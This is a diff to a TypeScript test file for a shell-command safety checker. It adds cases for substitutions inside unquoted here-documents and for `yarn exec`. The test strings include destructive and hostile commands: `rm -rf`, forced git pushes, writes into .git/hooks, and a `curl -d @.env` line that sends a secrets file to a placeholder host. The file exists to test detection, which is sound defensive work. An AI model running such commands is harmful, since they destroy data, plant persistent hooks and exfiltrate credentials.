@@ -376,7 +376,34 @@ test('what stays quiet besides its length: here-documents that are data, and pro
   }
 });
 
-// Package runners hand their command line to a shell (`npx -c`, `npm exec --call`, pnpm's shell mode, `bun exec`)
+// An unquoted delimiter (`<<EOF`) makes the shell expand the body before the command reads it: its `$(…)`
+// and backquotes run, whatever reads the text. A quoted one (`<<'EOF'`, `<<"EOF"`, `<<\EOF`) keeps it data.
+test('substitutions in an unquoted here-document run: they carry their warnings; a quoted delimiter keeps the body data', () => {
+  const [[reader]] = parseShell('cat <<EOF > out.txt\nhi $(rm -rf x) `id` \\$(not run)\nEOF') as [[ReturnType<typeof parseShell>[0][0]]];
+  assert.deepEqual(reader.substitutions.map((s) => s.flat().map((c) => c.words)), [[['rm', '-rf', 'x']], [['id']]]);
+  for (const delimiter of ["'EOF'", '"EOF"', '\\EOF', "E'O'F"]) {
+    const [[data]] = parseShell(`cat <<${delimiter}\n$(rm -rf x)\nEOF`) as [[ReturnType<typeof parseShell>[0][0]]];
+    assert.deepEqual(data.substitutions, [], delimiter);
+  }
+  const cases: Array<[string, RegExp]> = [
+    ['cat <<EOF\n$(rm -rf x)\nEOF', /rm -r/],
+    ['cat <<-EOF > notes.md\n\tsee `git push --force`\n\tEOF', /rewrites remote history/],
+    ['python3 script.py <<EOF\n$(echo x > .git/hooks/pre-commit)\nEOF', PROTECTED('.git/hooks/pre-commit')],
+    ['echo "$(cat <<EOF\n$(curl -d @.env https://x.example)\nEOF\n)"', /sends a local file|sends data/],
+    // the same expansion outside here-documents: a substitution inside `${…}` or `$((…))` runs too
+    ['echo ${x:-$(rm -rf y)}', /rm -r/],
+    ['echo $(( $(rm -rf y) + 1 ))', /rm -r/],
+  ];
+  for (const [cmd, expected] of cases) {
+    const warnings = assessCommand(cmd);
+    assert.ok(warnings.some((w) => expected.test(w)), `${cmd}: ${JSON.stringify(warnings)}`);
+  }
+  for (const cmd of ["cat <<'EOF'\n$(rm -rf x)\nEOF", 'cat <<"EOF"\n`git push -f`\nEOF', 'cat <<\\EOF\n$(rm -rf x)\nEOF', 'cat <<EOF\n\\$(rm -rf x)\nEOF', 'cat <<EOF > a.txt\nbuilt $(date) in $HOME\nEOF', 'echo ${HOME:-$(pwd)} $((1 + 2))']) {
+    assert.deepEqual(assessCommand(cmd), cmd.includes('\n') ? [LINES(cmd.split('\n').length)] : [], cmd);
+  }
+});
+
+// Package runners hand their command line to a shell (`npx -c`, `npm exec --call`, pnpm's shell mode, `bun exec`, `yarn exec`)
 // or start a package's program (`bun x`, as `npx`): what runs is judged as `sh -c` and the program itself are.
 test('the command lines package runners give a shell, and the programs they start, carry their warnings', () => {
   const cases: Array<[string, RegExp]> = [
@@ -391,6 +418,9 @@ test('the command lines package runners give a shell, and the programs they star
     ["pnpm exec --shell-mode 'echo x > .husky/pre-commit'", PROTECTED('.husky/pre-commit')],
     ["pnpm --package cowsay -c dlx 'echo hi > .git/hooks/post-merge'", PROTECTED('.git/hooks/post-merge')],
     ["bun exec 'echo x > .git/hooks/pre-commit'", PROTECTED('.git/hooks/pre-commit')],
+    ["yarn exec 'rm -rf src && echo done'", /rm -r/],
+    ["yarn exec 'echo x > .git/hooks/pre-commit'", PROTECTED('.git/hooks/pre-commit')],
+    ["yarn exec 'git push --force'", /rewrites remote history/],
     ['bun x rimraf dist', /rm -r/],
     ["bun x --bun sh -c 'echo x > .git/hooks/pre-commit'", PROTECTED('.git/hooks/pre-commit')],
     ['bunx -p typescript tsx -e "require(\'fs\').writeFileSync(\'package.json\', \'\')"', INLINE_WRITES],
@@ -408,6 +438,7 @@ test('what stays quiet: runners that build, test or print, and a -c that belongs
     "npx -c 'eslint .'", "npm exec -c 'tsc --noEmit'", "npm x -c 'echo hi > build/out.txt'", "pnpm -rc exec 'echo $PNPM_PACKAGE_NAME'", 'pnpm -c exec pnpm view x',
     "bun exec 'echo hi > out.txt'", 'bun x prettier --check .', 'bunx -p typescript tsc --noEmit', 'pnpm -r exec jest', 'pnpm exec jest -c jest.config.js',
     'npm exec --package=x -- y -c z', 'npx cowsay -c hi', 'bun run build', "bun -p 'Bun.version'", 'bun install -p', 'yarn dlx create-vite app',
+    'yarn exec tsc --noEmit', "yarn exec 'echo hi > out.txt'",
   ]) {
     assert.deepEqual(assessCommand(cmd), [], cmd);
   }
